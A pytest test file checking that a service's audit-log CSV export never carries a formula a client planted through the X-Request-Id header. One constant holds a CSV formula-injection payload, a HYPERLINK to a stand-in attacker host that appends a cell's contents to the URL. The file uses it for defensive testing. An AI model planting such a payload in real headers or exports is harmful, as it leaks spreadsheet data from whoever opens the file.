"""The activity log's CSV export never carries a formula a client planted: a request id
is kept only when it is short and plain, and every exported cell is written as text."""

import csv
import io

import pytest

from services.accounts.service import definition as accounts
from services.audit.service import definition as audit
from services.runtime.settings import Settings
from services.runtime.spreadsheets import FORMULA_LEADS
from tests.support.accounts import bearer, sign_in, signed_in_admin
from tests.support.gateway import gateway_client
from tests.support.hosts import running
from tests.support.waiting import eventually

pytestmark = pytest.mark.timeout(120)
PLANTED = '=HYPERLINK("http://atacante.example/robo?d="&A1,"Ver detalle")'


async def test_a_planted_request_id_never_reaches_the_export_as_a_formula(
    fresh: Settings,
) -> None:
    async with running(fresh, accounts, audit), gateway_client(fresh) as client:
        admin, _ = await signed_in_admin(fresh, client)
        planted = await client.post(
            "/api/v1/sesion",
            headers={"X-Request-Id": PLANTED},
            json={"usuario": "admin", "contrasena": "equivocada equivocada"},
        )
        assert planted.status == 401
        assert planted.headers["X-Request-Id"] != PLANTED
        long_one = await client.get("/salud", headers={"X-Request-Id": "a" * 65})
        assert long_one.headers["X-Request-Id"] != "a" * 65
        plain = await sign_in(client, "admin", password="otra equivocada más")
        assert plain.status == 401
        kept = await client.get("/salud", headers={"X-Request-Id": "lote-7.A_1"})
        assert kept.headers["X-Request-Id"] == "lote-7.A_1"

        async def export() -> list[list[str]]:
            response = await client.get(
                "/api/v1/auditoria/entradas.csv",
                headers=bearer(admin),
                params={"accion": "session.sign_in"},
            )
            assert response.status == 200
            return list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"))))

        rows = await eventually(export, lambda r: len(r) >= 4, what="three sign-ins exported")
        assert "HYPERLINK" not in "".join(",".join(row) for row in rows)
        assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_LEADS)]
